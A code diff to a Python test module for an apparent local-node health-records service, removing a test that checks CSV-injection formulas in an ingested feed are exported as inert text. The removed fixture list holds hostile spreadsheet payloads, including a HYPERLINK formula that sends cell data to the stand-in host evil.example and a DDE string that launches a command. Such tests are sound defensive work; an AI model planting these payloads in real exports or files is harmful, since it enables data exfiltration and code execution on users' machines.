@@ -8,8 +8,6 @@ from __future__ import annotations
 
 import csv
 import io
-import os
-import subprocess
 from pathlib import Path
 
 import aiohttp
@@ -21,7 +19,6 @@ from local_node.app import create_app as create_node_app
 from server_common.accounts import Role
 from tests.conftest import DatabaseFactory
 from tests.federation import running_hub, running_node
-from tests.processes import script
 from tests.server_common.accounts_helpers import sign_in
 
 ESX = "E10000011"
@@ -114,34 +111,3 @@ async def test_injection_attempts_are_only_data(make_database: DatabaseFactory, 
         assert await page.evaluate("window.injected") is None and dialogs == []
         await node_server.close()
 
-
-def _cli(args: list[str], env: dict[str, str]) -> None:
-    done = subprocess.run(args, env=env, text=True, capture_output=True, timeout=120)
-    assert done.returncode == 0, done.stderr
-
-
-FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"open")', "+1+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(A1:A9)", "\t=1"]
-
-
-async def test_a_formula_in_a_feed_is_text_in_the_node_export(make_database: DatabaseFactory,
-                                                              tmp_path: Path) -> None:
-    """A source system's row id is any printable text (docs/feeds.md): one that a
-    spreadsheet would run as a formula (CSV injection) is written by ``local-node index
-    export`` so that it opens as text, as the audit export's cells are."""
-    env = dict(os.environ) | {"LOCAL_NODE__DATABASE__URL": await make_database(),
-                              "LOCAL_NODE__COUNCIL__CODE": ESX,
-                              "LOCAL_NODE__COUNCIL__KEY_FILE": str(tmp_path / "key.pem")}
-    node = script("local-node")
-    out = io.StringIO()
-    writer = csv.writer(out)
-    writer.writerow(["source_ref", "nhs_number", "given_name", "family_name", "dob"])
-    writer.writerows([ref.strip(), "", "Amelia", f"Okafor{i}", "2015-03-14"]
-                     for i, ref in enumerate(FORMULAS))
-    feed, export = tmp_path / "health.csv", tmp_path / "index.csv"
-    feed.write_text(out.getvalue(), encoding="utf-8")
-    for args in (["db", "upgrade"], ["ingest", "--feed", "health", str(feed)],
-                 ["index", "export", "--out", str(export)]):
-        _cli([node, *args], env)
-    refs = [r["source_ref"] for r in csv.DictReader(io.StringIO(export.read_text()))]
-    assert sorted(refs) == sorted("'" + ref.strip() for ref in FORMULAS), refs
